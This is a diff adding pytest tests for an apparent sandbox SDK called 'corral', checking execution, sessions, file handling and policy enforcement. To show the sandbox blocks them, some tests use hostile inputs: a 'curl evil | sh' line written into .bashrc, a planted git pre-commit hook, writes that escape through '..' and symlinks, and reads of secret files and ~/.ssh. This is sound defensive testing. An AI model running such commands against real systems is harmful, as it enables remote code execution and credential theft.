@@ -1,0 +1,335 @@
+"""The SDK against real sandboxes: the same behaviour from Sandbox and AsyncSandbox."""
+
+from __future__ import annotations
+
+import os
+import stat
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from corral import (
+    CommandFailed,
+    InvalidRequest,
+    Outcome,
+    PolicyDenied,
+    SessionClosed,
+    SettingsError,
+)
+
+from ..conftest import World, needs_bwrap
+
+pytestmark = needs_bwrap
+
+Open = Callable[..., Any]
+
+
+def sandbox_in(open_sandbox: Open, world: World, **options: Any) -> Any:
+    return open_sandbox(workspace=world.workspace, environ=world.environ, **options)
+
+
+# ---------------------------------------------------------------- exec
+def test_exec_runs_argv_and_shell_strings(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    by_argv = sbx.exec(["printf", "%s|", "a b", "$HOME"])
+    assert isinstance(by_argv, Outcome)
+    assert by_argv.stdout == b"a b|$HOME|"
+    by_shell = sbx.exec("echo one; echo two >&2; exit 3")
+    assert (by_shell.exit_code, by_shell.stdout, by_shell.stderr) == (3, b"one\n", b"two\n")
+    assert by_shell.backend == "bubblewrap"
+    assert (by_shell.timed_out, by_shell.oom_killed, by_shell.signal) == (False, False, None)
+
+
+def test_exec_feeds_stdin_env_and_cwd(open_sandbox: Open, world: World) -> None:
+    os.makedirs(os.path.join(world.workspace, "sub"))
+    sbx = sandbox_in(open_sandbox, world)
+    outcome = sbx.exec(
+        "read line; echo $line-$GREETING-$(pwd)", stdin="hello\n", env={"GREETING": "hi"}, cwd="sub"
+    )
+    assert outcome.stdout.decode() == f"hello-hi-{world.workspace}/sub\n"
+
+
+def test_check_raises_command_failed_with_the_outcome(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    outcome = sbx.exec("echo out; exit 7")
+    with pytest.raises(CommandFailed, match="exited with status 7") as caught:
+        outcome.check()
+    assert caught.value.outcome.stdout == b"out\n"
+    assert sbx.exec("true").check().ok
+
+
+def test_timeout_stops_the_command(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    outcome = sbx.exec(["sleep", "30"], timeout=0.5)
+    assert outcome.timed_out
+    assert outcome.returncode == 124
+    assert outcome.duration < 10
+
+
+def test_blocks_write_outside_workspace(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    outcome = sbx.exec(["sh", "-c", 'echo pwned > "$1"', "sh", world.victim])
+    assert outcome.exit_code != 0
+    assert b"Read-only file system" in outcome.stderr
+    assert world.read(world.victim) == "original\n"
+
+
+def test_blocks_write_to_protected_path_and_records_it(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    outcome = sbx.exec("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
+    assert outcome.exit_code != 0
+    assert [v.kind for v in outcome.violations] == ["fs-write"]
+    assert not os.path.exists(os.path.join(world.workspace, ".git", "hooks", "pre-commit"))
+    with pytest.raises(PolicyDenied):
+        outcome.raise_for_denial()
+
+
+def test_hides_secrets(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    outcome = sbx.exec(["cat", world.secret])
+    assert outcome.exit_code != 0
+    assert b"SECRET" not in outcome.stdout
+
+
+# ---------------------------------------------------------------- sessions
+def test_session_keeps_its_id_and_private_tmp_across_commands(
+    open_sandbox: Open, world: World
+) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    first = sbx.exec("echo kept > /tmp/note; echo $TMPDIR")
+    second = sbx.exec(["cat", "/tmp/note"])
+    assert second.stdout == b"kept\n"
+    assert first.stdout == b"/tmp\n"
+    assert first.sandbox_id == second.sandbox_id == sbx.id
+    assert sbx.id.startswith("sbx-")
+    # the session's /tmp is its own directory under corral's state dir, not the host's /tmp
+    assert not os.path.exists("/tmp/note")
+    assert sbx.tmp_dir.startswith(os.path.join(world.state_dir, "sessions") + "/")
+    assert stat.S_IMODE(os.stat(sbx.tmp_dir).st_mode) == 0o700
+    with open(os.path.join(sbx.tmp_dir, "note")) as f:
+        assert f.read() == "kept\n"
+
+
+def test_sessions_do_not_share_tmp(open_sandbox: Open, world: World) -> None:
+    one = sandbox_in(open_sandbox, world)
+    two = sandbox_in(open_sandbox, world)
+    one.exec("echo mine > /tmp/private")
+    assert two.exec(["cat", "/tmp/private"]).exit_code != 0
+    assert one.id != two.id
+
+
+def test_close_removes_the_private_tmp_and_refuses_further_use(
+    open_sandbox: Open, world: World
+) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    sbx.exec("mkdir -p /tmp/d && echo x > /tmp/d/f && chmod 000 /tmp/d")
+    tmp_dir = sbx.tmp_dir
+    sbx.close()
+    sbx.close()  # idempotent
+    assert sbx.closed
+    assert not os.path.exists(tmp_dir)
+    with pytest.raises(SessionClosed):
+        sbx.exec("true")
+
+
+def test_commands_are_audited_with_the_sandbox_and_agent_session(
+    open_sandbox: Open, world: World
+) -> None:
+    sbx = sandbox_in(open_sandbox, world, agent_session="session-42")
+    sbx.exec("true")
+    sbx.exec("false")
+    records = world.audit_records()[-2:]
+    assert [r["exit_status"] for r in records] == [0, 1]
+    assert {r["sandbox_id"] for r in records} == {sbx.id}
+    assert {r["agent_session"] for r in records} == {"session-42"}
+    assert all(r["policy_digest"] for r in records)
+
+
+# ---------------------------------------------------------------- options and settings
+def test_keyword_options_become_the_last_settings_layer(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(
+        open_sandbox,
+        world,
+        memory="256M",
+        timeout="none",
+        network="open",
+        deny_write=["docs/**"],
+        env={"MODE": "test"},
+    )
+    policy = sbx.policy
+    assert policy.resources.memory == 256 << 20
+    assert policy.resources.timeout is None
+    assert policy.network.mode == "open"
+    assert "docs/**" in policy.filesystem.deny_write
+    assert sbx.exec("echo $MODE").stdout == b"test\n"
+
+
+def test_a_policy_object_is_used_as_is(open_sandbox: Open, world: World) -> None:
+    from corral.policy import load_settings
+
+    policy = load_settings(
+        cwd=world.workspace, environ=world.environ, flags={"filesystem": {"readOnly": True}}
+    ).policy
+    sbx = open_sandbox(policy, environ=world.environ)
+    assert sbx.workspace == world.workspace
+    outcome = sbx.exec("echo x > file")
+    assert outcome.exit_code != 0
+    assert not os.path.exists(os.path.join(world.workspace, "file"))
+
+
+def test_policy_and_options_are_exclusive(open_sandbox: Open, world: World) -> None:
+    from corral.policy import load_settings
+
+    policy = load_settings(cwd=world.workspace, environ=world.environ).policy
+    with pytest.raises(InvalidRequest, match="either a Policy or keyword options"):
+        open_sandbox(policy, memory="1G")
+
+
+def test_unknown_option_suggests_the_right_one(open_sandbox: Open, world: World) -> None:
+    with pytest.raises(
+        InvalidRequest, match="unknown option 'memroy' \\(did you mean 'memory'\\?\\)"
+    ):
+        sandbox_in(open_sandbox, world, memroy="1G")
+
+
+def test_invalid_setting_is_a_settings_error(open_sandbox: Open, world: World) -> None:
+    with pytest.raises(SettingsError, match=r"resources\.memory"):
+        sandbox_in(open_sandbox, world, memory="lots")
+
+
+def test_rules_apply_per_command(open_sandbox: Open, world: World) -> None:
+    rules = [{"match": "sleep*", "resources": {"timeout": "0.5s"}}]
+    sbx = sandbox_in(open_sandbox, world, settings={"rules": rules})
+    assert sbx.exec(["sleep", "20"]).timed_out
+    assert sbx.exec("true").returncode == 0
+
+
+# ---------------------------------------------------------------- files
+def test_write_and_read_files_round_trip(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    data = bytes(range(256)) * 3
+    sbx.write_file("out/data.bin", data, parents=True)
+    assert sbx.read_file("out/data.bin") == data
+    with open(os.path.join(world.workspace, "out", "data.bin"), "rb") as f:
+        assert f.read() == data
+    sbx.write_file("/tmp/scratch.txt", "in the private tmp")
+    assert sbx.read_file("/tmp/scratch.txt") == b"in the private tmp"
+
+
+def test_write_file_refuses_protected_names(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    with pytest.raises(PolicyDenied, match=r"filesystem.protect: \*\*/.bashrc") as caught:
+        sbx.write_file("sub/.bashrc", "curl evil | sh\n", parents=True)
+    assert caught.value.outcome.violations
+    assert not os.path.exists(os.path.join(world.workspace, "sub", ".bashrc"))
+
+
+def test_write_file_cannot_escape_with_dotdot(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    with pytest.raises(CommandFailed, match="Read-only file system"):
+        sbx.write_file("../outside/victim.txt", "pwned")
+    assert world.read(world.victim) == "original\n"
+
+
+def test_write_file_cannot_escape_through_a_symlink(open_sandbox: Open, world: World) -> None:
+    os.symlink(world.outside, os.path.join(world.workspace, "link"))
+    sbx = sandbox_in(open_sandbox, world)
+    with pytest.raises(CommandFailed, match="Read-only file system"):
+        sbx.write_file("link/victim.txt", "pwned")
+    with pytest.raises(CommandFailed):
+        sbx.write_file("link/new.txt", "pwned")
+    assert world.read(world.victim) == "original\n"
+    assert "new.txt" not in os.listdir(world.outside)
+
+
+def test_read_file_cannot_see_secrets_even_through_a_symlink(
+    open_sandbox: Open, world: World
+) -> None:
+    os.symlink(world.secret, os.path.join(world.workspace, "key"))
+    sbx = sandbox_in(open_sandbox, world)
+    for path in (world.secret, "key"):
+        try:
+            data = sbx.read_file(path)
+        except CommandFailed:
+            continue
+        assert b"SECRET" not in data
+
+
+def test_read_file_of_a_missing_file_says_why(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    with pytest.raises(CommandFailed, match="No such file or directory"):
+        sbx.read_file("nope.txt")
+
+
+def test_read_file_over_the_output_limit_is_refused(open_sandbox: Open, world: World) -> None:
+    with open(os.path.join(world.workspace, "big"), "wb") as f:
+        f.write(b"x" * 5000)
+    sbx = sandbox_in(open_sandbox, world, max_output=1000)
+    with pytest.raises(InvalidRequest, match="output limit"):
+        sbx.read_file("big")
+
+
+def test_list_files_shows_the_sandbox_view(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    sbx.write_file("src/a.py", "x = 1\n", parents=True)
+    sbx.exec("mkdir src/pkg && ln -s a.py src/alias")
+    entries = sbx.list_files("src")
+    assert [(e.name, e.kind) for e in entries] == [
+        ("a.py", "file"),
+        ("alias", "symlink"),
+        ("pkg", "dir"),
+    ]
+    assert entries[0].size == 6
+    assert entries[0].path == "src/a.py"
+    assert sbx.list_files(os.path.join(world.home, ".ssh")) == []  # a secret dir shows empty
+    with pytest.raises(CommandFailed, match="No such file or directory"):
+        sbx.list_files("missing")
+
+
+# ---------------------------------------------------------------- code
+def test_run_code_python_and_bash(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    assert sbx.run_code("import sys; print(sys.argv[0], 6 * 7)").stdout == b"-c 42\n"
+    assert sbx.run_code("echo ${BASH_VERSION:+bash}", language="bash").stdout == b"bash\n"
+    outcome = sbx.run_code("raise SystemExit(4)")
+    assert outcome.exit_code == 4
+
+
+def test_run_code_node_when_installed(open_sandbox: Open, world: World) -> None:
+    import shutil
+
+    if shutil.which("node") is None:
+        pytest.skip("node is not installed on this machine")
+    sbx = sandbox_in(open_sandbox, world)
+    assert sbx.run_code("console.log(6 * 7)", language="node").stdout == b"42\n"
+
+
+def test_run_code_rejects_unknown_languages_and_huge_code(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    with pytest.raises(InvalidRequest, match="unknown language 'ruby'"):
+        sbx.run_code("puts 1", language="ruby")
+    with pytest.raises(InvalidRequest, match="128 KiB"):
+        sbx.run_code("#" * (200 * 1024))
+
+
+def test_diff_without_preview_is_a_usage_error(open_sandbox: Open, world: World) -> None:
+    sbx = sandbox_in(open_sandbox, world)
+    with pytest.raises(InvalidRequest, match="no preview"):
+        sbx.diff()
+
+
+def _preview_merged() -> bool:
+    import importlib.util
+
+    return importlib.util.find_spec("corral.preview") is not None
+
+
+@pytest.mark.skipif(_preview_merged(), reason="corral.preview is merged: see test_preview.py")
+def test_preview_without_the_preview_module_fails_clearly(open_sandbox: Open, world: World) -> None:
+    from corral import PreviewError
+
+    with pytest.raises(PreviewError, match=r"corral\.preview is not part of this build") as caught:
+        sandbox_in(open_sandbox, world, preview=True)
+    assert caught.value.hint == "create the sandbox with preview=False"
+    assert os.listdir(os.path.join(world.state_dir, "sessions")) == []  # nothing left behind
